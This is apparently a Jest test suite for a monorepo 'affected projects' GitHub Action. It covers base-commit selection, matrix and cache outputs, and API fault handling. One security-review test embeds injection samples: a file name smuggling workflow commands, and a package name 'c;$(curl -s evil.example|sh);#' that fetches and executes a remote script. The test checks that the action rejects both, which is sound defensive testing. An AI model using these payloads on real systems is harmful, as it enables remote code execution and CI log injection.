import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { FakeCacheService, FakeGitHub, GitFixture, assertContract, mergeGroupEvent, pullRequestEvent, pushEvent, runAction, scheduleEvent, scopesFor, type RunResult } from '@maestro/harness';

const actionDir = path.resolve('actions/affected');
const REPO = { owner: 'acme', name: 'shop' };
const FULL = 'acme/shop';
const J = (o: unknown) => JSON.stringify(o, null, 2) + '\n';
const pkg = (name: string, deps: Record<string, string> = {}) => J({ name, version: '1.0.0', scripts: { build: 'tsc', test: 'jest' }, dependencies: deps });

let gh: FakeGitHub;
let cache: FakeCacheService;
let fx: GitFixture;
let token: string;
let pr: { base: string; head: string; merge: string };
let mainTip: string;

beforeAll(async () => {
  expect(existsSync(path.join(actionDir, 'dist/index.js'))).toBe(true);
  [gh, cache] = await Promise.all([FakeGitHub.start(), FakeCacheService.start()]);
  gh.addRepo(FULL);
  token = gh.addToken('ghs_affected_token');
  fx = GitFixture.create();
  fx.commit('sample monorepo', {
    'package.json': J({ name: 'shop', private: true }),
    'pnpm-workspace.yaml': 'packages:\n  - packages/*\n',
    'maestro.projects.yaml': 'targets:\n  build:\n    outputs: ["dist/**"]\n',
    'README.md': '# shop\n',
    'packages/utils/package.json': pkg('@shop/utils'),
    'packages/utils/src/money.ts': 'export const cents = (n: number) => Math.round(n * 100);\n',
    'packages/utils/src/index.ts': "export * from './money.js';\n",
    'packages/utils/src/money.test.ts': "import { cents } from './money.js';\n",
    'packages/api/package.json': pkg('@shop/api', { '@shop/utils': 'workspace:*' }),
    'packages/api/src/checkout.ts': "import { cents } from '@shop/utils';\nexport const total = (n: number) => cents(n);\n",
    'packages/api/src/checkout.test.ts': "import { total } from './checkout.js';\n",
    'packages/api/src/health.test.ts': 'export {};\n',
    'packages/web/package.json': pkg('@shop/web'),
    'packages/web/src/app.ts': 'export const app = 1;\n',
  });
  for (let i = 0; i < 3; i++) fx.commit(`main ${i}`, { [`packages/web/src/page${i}.ts`]: `export const p = ${i};\n` });
  fx.push('main');
  mainTip = fx.head();
  fx.branch('feature');
  fx.commit('utils: round half up', { 'packages/utils/src/money.ts': 'export const cents = (n: number) => Math.floor(n * 100 + 0.5);\n', 'README.md': '# shop!\n' });
  pr = fx.pullRequest(1, 'main', 'feature');
  gh.addPull(FULL, { number: 1, headSha: pr.head, baseSha: pr.base, headRef: 'feature' });
});

afterAll(async () => {
  await Promise.all([gh?.stop(), cache?.stop()]);
  fx?.dispose();
});

const json = (r: RunResult, name: string) => JSON.parse(r.outputs[name]!);

describe('affected bundle under runner-sim', () => {
  test('pull_request in a depth-1 checkout: merge commit vs its first parent, fetched on demand; reasons, matrix, summary', async () => {
    const workspace = fx.checkoutLike(pr.merge, { depth: 1 });
    const r = await runAction({ actionDir, workspace, event: pullRequestEvent({ repo: REPO, number: 1, ...pr, headRef: 'feature' }), token, apiUrl: gh.url, with: { 'test-selection': 'files' } });
    assertContract(r);
    expect(r.conclusion).toBe('success');
    expect(r.outputs['base']).toBe(pr.base);
    expect(r.outputs['head']).toBe(pr.merge);
    expect(r.outputs['base-source']).toBe('merge-commit-parent');
    // The named workspace root owns README.md (as pnpm's filter sees it); a docs change runs none of its tasks.
    expect(json(r, 'projects')).toEqual(['@shop/api', '@shop/utils', 'shop']);
    expect(json(r, 'reasons')).toEqual({
      '@shop/api': ['depends on @shop/utils (@shop/api → @shop/utils): packages/utils/src/money.ts changed'],
      '@shop/utils': ['packages/utils/src/money.ts changed'],
      shop: ['README.md changed'],
    });
    expect(json(r, 'matrix')).toEqual({
      include: [
        { name: 'build @shop/api', target: 'build', projects: '@shop/api', paths: 'packages/api' },
        { name: 'test @shop/api', target: 'test', projects: '@shop/api', paths: 'packages/api' },
        { name: 'build @shop/utils', target: 'build', projects: '@shop/utils', paths: 'packages/utils' },
        { name: 'test @shop/utils', target: 'test', projects: '@shop/utils', paths: 'packages/utils' },
      ],
    });
    expect(r.outputs['any']).toBe('true');
    expect(r.outputs['all']).toBe('false');
    expect(r.outputs['turbo-filter']).toBe('--filter=@shop/api --filter=@shop/utils');
    expect(r.outputs['nx-projects']).toBe('@shop/api,@shop/utils');
    expect(json(r, 'files')).toEqual(['README.md', 'packages/utils/src/money.ts']);
    expect(readFileSync(r.outputs['files-path']!, 'utf8')).toBe('README.md\npackages/utils/src/money.ts\n');
    // File-level selection: both tests that import money.ts (directly or via @shop/utils), not health.test.ts.
    expect(json(r, 'tests')).toEqual(['packages/api/src/checkout.test.ts', 'packages/utils/src/money.test.ts']);
    expect(Object.keys(json(r, 'keys'))).toEqual(['@shop/api:build', '@shop/api:test', '@shop/utils:build', '@shop/utils:test']);
    const report = JSON.parse(readFileSync(r.outputs['report-path']!, 'utf8'));
    expect(report.fetched).toEqual([pr.base]);
    expect(r.summary).toContain('| `@shop/utils` | packages/utils/src/money.ts changed | build, test |');
    expect(r.summary).toContain('| `shop` | README.md changed | — |');
    expect(gh.requests.filter((q) => q.operationId?.startsWith('actions/'))).toEqual([]); // no API needed on PRs
  });

  test('push: `before` is used when it is an ancestor', async () => {
    const workspace = fx.checkoutLike(pr.head, { depth: 1 });
    const r = await runAction({ actionDir, workspace, event: pushEvent({ repo: REPO, ref: 'refs/heads/feature', before: mainTip, after: pr.head }), token, apiUrl: gh.url, stages: ['main'] });
    assertContract(r);
    expect(r.outputs['base-source']).toBe('push-before');
    expect(r.outputs['base']).toBe(mainTip);
    expect(json(r, 'projects')).toEqual(['@shop/api', '@shop/utils', 'shop']);
  });

  test('force push: the newest successful run that is an ancestor, verified locally (not main~1)', async () => {
    fx.checkout('main');
    fx.branch('rewrite');
    const green = fx.commit('green on rewrite', { 'packages/web/src/app.ts': 'export const app = 2;\n' });
    fx.push('rewrite');
    fx.branch('orphan-work', mainTip);
    const unrelated = fx.commit('not an ancestor', { 'packages/api/src/x.ts': 'x\n' });
    fx.push('orphan-work');
    fx.checkout('rewrite');
    const tip = fx.commit('after force push', { 'packages/utils/src/money.ts': 'export const cents = 0;\n' });
    fx.push('rewrite');
    gh.addWorkflowRun(FULL, { headSha: green, headBranch: 'rewrite', createdAt: '2026-01-01T00:00:00Z' });
    gh.addWorkflowRun(FULL, { headSha: unrelated, headBranch: 'rewrite', createdAt: '2026-01-02T00:00:00Z' });
    gh.addWorkflowRun(FULL, { headSha: tip, headBranch: 'rewrite', conclusion: 'failure', createdAt: '2026-01-03T00:00:00Z' });
    const gone = 'f'.repeat(40); // the pre-force-push tip no longer exists on the remote
    const workspace = fx.checkoutLike(tip, { depth: 1 });
    const r = await runAction({ actionDir, workspace, event: pushEvent({ repo: REPO, ref: 'refs/heads/rewrite', before: gone, after: tip, forced: true }), token, apiUrl: gh.url, stages: ['main'] });
    assertContract(r);
    expect(r.conclusion).toBe('success');
    expect(r.outputs['base-source']).toBe('last-successful-run');
    expect(r.outputs['base']).toBe(green);
    expect(json(r, 'projects')).toEqual(['@shop/api', '@shop/utils']);
    expect(gh.requests.some((q) => q.operationId === 'actions/list-workflow-runs')).toBe(true);
    gh.assertNoViolations();
  });

  test('no provable base (no token, force push) → everything affected, with the reason, never a crash', async () => {
    const workspace = fx.checkoutLike(pr.head, { depth: 1 });
    const r = await runAction({ actionDir, workspace, event: pushEvent({ repo: REPO, ref: 'refs/heads/feature', before: 'e'.repeat(40), after: pr.head, forced: true }), token: '', with: { token: '' }, stages: ['main'] });
    assertContract(r);
    expect(r.conclusion).toBe('success');
    expect(r.outputs['all']).toBe('true');
    expect(r.outputs['base']).toBe('');
    expect(r.outputs['all-reason']).toMatch(/not an ancestor .*force push/);
    expect(json(r, 'projects')).toEqual(['@shop/api', '@shop/utils', '@shop/web', 'shop']);
    expect(r.annotations.some((a) => a.level === 'warning' && /No base commit/.test(a.message))).toBe(true);
  });

  test('runs API answers 403 (token without actions: read) → everything affected, saying so', async () => {
    const workspace = fx.checkoutLike(pr.head, { depth: 1 });
    gh.fault({ operation: 'actions/list-workflow-runs', status: 403, message: 'Resource not accessible by integration' });
    const r = await runAction({ actionDir, workspace, event: pushEvent({ repo: REPO, ref: 'refs/heads/feature', before: 'e'.repeat(40), after: pr.head, forced: true }), token, apiUrl: gh.url, stages: ['main'] });
    expect(r.conclusion).toBe('success');
    expect(r.outputs['all']).toBe('true');
    expect(r.outputs['all-reason']).toMatch(/runs API failed: .*Resource not accessible/);
  });

  test('runs API answers 5xx: retried; when it stays down → everything affected, saying so, never a crash', async () => {
    const workspace = fx.checkoutLike(pr.head, { depth: 1 });
    const event = pushEvent({ repo: REPO, ref: 'refs/heads/feature', before: 'e'.repeat(40), after: pr.head, forced: true });
    gh.fault({ operation: 'actions/list-workflow-runs', status: 502 });
    const before = gh.requests.filter((q) => q.operationId === 'actions/list-workflow-runs').length;
    const once = await runAction({ actionDir, workspace, event, token, apiUrl: gh.url, stages: ['main'] });
    assertContract(once);
    // The 502 was retried: a second request went out, and its answer (no green run on this branch) decided.
    expect(gh.requests.filter((q) => q.operationId === 'actions/list-workflow-runs').length - before).toBe(2);
    expect(once.outputs['all-reason']).not.toMatch(/runs API failed/);
    gh.fault({ operation: 'actions/list-workflow-runs', status: 500, times: 10 });
    const down = await runAction({ actionDir, workspace, event, token, apiUrl: gh.url, stages: ['main'] });
    assertContract(down);
    expect(down.conclusion).toBe('success');
    expect(down.outputs['all']).toBe('true');
    expect(down.outputs['all-reason']).toMatch(/runs API failed: .*Server Error/);
    // The first request and three retries met the outage; the rest of it is cleared for the next test.
    expect(gh.clearFaults()).toBe(6);
    gh.assertNoViolations();
  });

  test('new branch (before = zero SHA): its fork point from the default branch', async () => {
    const workspace = fx.checkoutLike(pr.head, { depth: 1 });
    const r = await runAction({ actionDir, workspace, event: pushEvent({ repo: { ...REPO, defaultBranch: 'main' }, ref: 'refs/heads/feature', before: '0'.repeat(40), after: pr.head }), token, apiUrl: gh.url, stages: ['main'] });
    assertContract(r);
    expect(r.outputs['base-source']).toBe('default-branch-merge-base');
    expect(r.outputs['base']).toBe(mainTip);
  });

  test('merge_group: the event’s base_sha', async () => {
    const workspace = fx.checkoutLike(pr.merge, { depth: 1 });
    const r = await runAction({ actionDir, workspace, event: mergeGroupEvent({ repo: REPO, baseSha: pr.base, headSha: pr.merge, prNumber: 1 }), token, apiUrl: gh.url, stages: ['main'] });
    assertContract(r);
    expect(r.outputs['base-source']).toBe('merge-group-base');
    expect(r.outputs['base']).toBe(pr.base);
    expect(json(r, 'projects')).toEqual(['@shop/api', '@shop/utils', 'shop']);
  });

  test('schedule with a base input that does not exist → fetched, then everything with the reason', async () => {
    const workspace = fx.checkoutLike(mainTip, { depth: 1 });
    const r = await runAction({ actionDir, workspace, event: scheduleEvent({ repo: REPO, sha: mainTip }), with: { base: 'a'.repeat(40) }, token, apiUrl: gh.url, stages: ['main'] });
    expect(r.conclusion).toBe('success');
    expect(r.outputs['all']).toBe('true');
    expect(r.outputs['all-reason']).toMatch(/base input a{40} is not in this clone and could not be fetched/);
  });

  test('cache per target: a first run misses and saves what was built (post); a re-run restores every target', async () => {
    const env = cache.env(scopesFor('refs/pull/1/merge'));
    const event = pullRequestEvent({ repo: REPO, number: 1, ...pr, headRef: 'feature' });
    const workspace = fx.checkoutLike(pr.merge, { depth: 1 });
    // main restores (miss); the job's build step writes dist/; the post stage of the same step saves it.
    const main = await runAction({ actionDir, workspace, event, token, apiUrl: gh.url, env, with: { cache: 'restore-save', targets: 'build' }, stages: ['main'] });
    assertContract(main);
    expect(json(main, 'cache-hits')).toEqual({ '@shop/api:build': false, '@shop/utils:build': false });
    for (const p of ['api', 'utils']) {
      mkdirSync(path.join(workspace, `packages/${p}/dist`), { recursive: true });
      writeFileSync(path.join(workspace, `packages/${p}/dist/index.js`), `// built ${p}\n`);
    }
    const post = await runAction({ actionDir, workspace, event, token, apiUrl: gh.url, env, with: { cache: 'restore-save', targets: 'build' }, stages: ['post'], state: main.state });
    expect(post.conclusion).toBe('success');
    const keys = json(main, 'keys');
    expect(cache.entries.filter((e) => e.finalized).map((e) => e.key).sort()).toEqual([keys['@shop/api:build'], keys['@shop/utils:build']].sort());

    const fresh = fx.checkoutLike(pr.merge, { depth: 1 });
    const again = await runAction({ actionDir, workspace: fresh, event, token, apiUrl: gh.url, env, with: { cache: 'restore-save', targets: 'build' }, stages: ['main', 'post'] });
    assertContract(again);
    expect(json(again, 'cache-hits')).toEqual({ '@shop/api:build': true, '@shop/utils:build': true });
    expect(readFileSync(path.join(fresh, 'packages/utils/dist/index.js'), 'utf8')).toBe('// built utils\n');
    expect(again.summary).toContain('2 of 2 target(s) restored');
  });

  test('a huge diff: `files` is left empty with a warning, files-path has every path, nothing else is lost', async () => {
    fx.checkout('main');
    fx.branch('huge');
    const many: Record<string, string> = {};
    for (let i = 0; i < 4000; i++) many[`packages/web/src/generated/a-rather-long-generated-module-name-${String(i).padStart(5, '0')}.ts`] = `export const v${i} = ${i};\n`;
    const sha = fx.commit('generate', many);
    fx.push('huge');
    const workspace = fx.checkoutLike(sha, { depth: 1 });
    const r = await runAction({ actionDir, workspace, event: pushEvent({ repo: REPO, ref: 'refs/heads/huge', before: mainTip, after: sha }), token, apiUrl: gh.url, stages: ['main'] });
    assertContract(r);
    expect(r.conclusion).toBe('success');
    expect(r.outputs['files']).toBe('');
    expect(r.log).toMatch(/4000 changed paths do not fit in an output/);
    const listed = readFileSync(r.outputs['files-path']!, 'utf8').trimEnd().split('\n');
    expect(listed).toHaveLength(4000);
    expect(new Set(listed).size).toBe(4000);
    expect(json(r, 'projects')).toEqual(['@shop/web']);
    expect(json(r, 'reasons')['@shop/web']).toHaveLength(20); // capped, the first ones kept
  });

  test('working-directory: the repository in a subfolder of the workspace', async () => {
    const workspace = mkdtempSync(path.join(tmpdir(), 'ws-sub-'));
    fx.checkoutLike(pr.merge, { depth: 1, into: path.join(workspace, 'src', 'shop') });
    const r = await runAction({ actionDir, workspace, event: pullRequestEvent({ repo: REPO, number: 1, ...pr, headRef: 'feature' }), token, apiUrl: gh.url, with: { 'working-directory': 'src/shop' }, stages: ['main'] });
    assertContract(r);
    expect(r.outputs['base-source']).toBe('merge-commit-parent');
    expect(json(r, 'projects')).toEqual(['@shop/api', '@shop/utils', 'shop']);
  });

  test('a malformed maestro.projects.yaml fails with file, line and a fix', async () => {
    fx.checkout('feature');
    const bad = fx.commit('bad config', { 'maestro.projects.yaml': 'targets:\n  build:\n    outputz: ["dist/**"]\n' });
    fx.push('feature');
    const workspace = fx.checkoutLike(bad, { depth: 2 });
    const r = await runAction({ actionDir, workspace, event: pushEvent({ repo: REPO, ref: 'refs/heads/feature', before: pr.head, after: bad }), token, apiUrl: gh.url, stages: ['main'] });
    expect(r.conclusion).toBe('failure');
    const err = r.annotations.find((a) => a.level === 'error')!;
    expect(err.file).toBe('maestro.projects.yaml');
    expect(err.line).toBe(3);
    expect(err.message).toMatch(/outputz/);
    expect(r.log).not.toMatch(/\n\s+at .*\.js:\d+/); // no stack trace
  });

  describe('hostile names (security review #13)', () => {
    test('a CR and a workflow command in a changed file name are logged as text, never run; a package named as shell code is refused at its manifest', async () => {
      fx.checkout('main');
      fx.branch('cr-name');
      const crName = 'packages/web/src/x\r::add-mask::hunter2\r::error title=pwned::injected ##[add-mask]legacy.ts';
      fx.commit('odd name', { [crName]: 'export const x = 1;\n' });
      const p = fx.pullRequest(61, 'main', 'cr-name');
      const r = await runAction({ actionDir, workspace: fx.checkoutLike(p.merge, { depth: 1 }), event: pullRequestEvent({ repo: REPO, number: 61, ...p }), token, apiUrl: gh.url, stages: ['main'] });
      assertContract(r);
      expect(r.conclusion).toBe('success');
      expect(JSON.parse(r.outputs['projects']!)).toEqual(['@shop/web']);
      // The reason naming the file reached the log (as text)…
      expect(r.log).toMatch(/@shop\/web: packages\/web\/src\/x\n\u200b::add-mask::hunter2\n\u200b::error title=pwned::injected ##\u200b\[add-mask\]legacy\.ts changed/);
      // …and nothing in it ran: no mask, no annotation from the file name.
      expect(r.masks).toEqual([]);
      expect(r.annotations.filter((a) => a.title === 'pwned' || /injected/.test(a.message))).toEqual([]);

      fx.checkout('main');
      fx.branch('evil-name');
      fx.commit('evil package', { 'packages/evil/package.json': pkg('c;$(curl -s evil.example|sh);#') });
      const q = fx.pullRequest(62, 'main', 'evil-name');
      const bad = await runAction({ actionDir, workspace: fx.checkoutLike(q.merge, { depth: 1 }), event: pullRequestEvent({ repo: REPO, number: 62, ...q }), token, apiUrl: gh.url, stages: ['main'] });
      expect(bad.conclusion).toBe('failure');
      expect(bad.annotations).toContainEqual(expect.objectContaining({ level: 'error', file: 'packages/evil/package.json', message: expect.stringMatching(/project name "c;\$\(curl -s evil\.example\|sh\);#" is not a valid package name/) }));
      expect(Object.values(bad.outputs).join('\n')).not.toContain('curl');
    });
  });

  test("pnpm 12's two-document lockfile: the full report (keys included) reads the project document; a lockfile bump selects only the bumped project", async () => {
    const dir = path.resolve('packages/affected/test/fixtures/pnpm12');
    const read = (f: string) => readFileSync(path.join(dir, f), 'utf8');
    const wf = GitFixture.create();
    try {
      const b = (ms: string) => J({ name: '@ws/b', version: '1.0.0', scripts: { build: 'tsc', test: 'jest' }, dependencies: { '@ws/a': 'workspace:*', ms } });
      wf.commit('workspace', { 'package.json': J({ name: 'ws', private: true }), 'pnpm-workspace.yaml': read('pnpm-workspace.yaml'), 'packages/a/package.json': J({ name: '@ws/a', version: '1.0.0', scripts: { build: 'tsc', test: 'jest' }, dependencies: { 'is-odd': '3.0.1' } }), 'packages/b/package.json': b('2.1.3'), 'pnpm-lock.yaml': read('pnpm-lock.base.yaml') });
      wf.push('main');
      wf.branch('bump');
      wf.commit('ms 2.1.2', { 'packages/b/package.json': b('2.1.2'), 'pnpm-lock.yaml': read('pnpm-lock.head.yaml') });
      const p = wf.pullRequest(71, 'main', 'bump');
      const r = await runAction({ actionDir, workspace: wf.checkoutLike(p.merge, { depth: 1 }), event: pullRequestEvent({ repo: REPO, number: 71, ...p }), token, apiUrl: gh.url, stages: ['main'] });
      assertContract(r);
      expect(r.conclusion).toBe('success');
      expect(JSON.parse(r.outputs['projects']!)).toEqual(['@ws/b']);
      expect(r.outputs['all']).toBe('false');
      expect(Object.keys(JSON.parse(r.outputs['keys']!)).sort()).toEqual(['@ws/b:build', '@ws/b:test']);
    } finally {
      wf.dispose();
    }
  });

  test('a README-only change: the project is listed as touched, with no task, and turbo-filter / nx-projects stay empty', async () => {
    fx.checkout('main');
    fx.branch('docs-only');
    fx.commit('docs', { 'packages/web/README.md': '# web\n' });
    const p = fx.pullRequest(72, 'main', 'docs-only');
    const r = await runAction({ actionDir, workspace: fx.checkoutLike(p.merge, { depth: 1 }), event: pullRequestEvent({ repo: REPO, number: 72, ...p }), token, apiUrl: gh.url, stages: ['main'] });
    assertContract(r);
    expect(JSON.parse(r.outputs['projects']!)).toEqual(['@shop/web']);
    expect(r.outputs['any']).toBe('false');
    expect(r.outputs['turbo-filter']).toBe('');
    expect(r.outputs['nx-projects']).toBe('');
  });
});

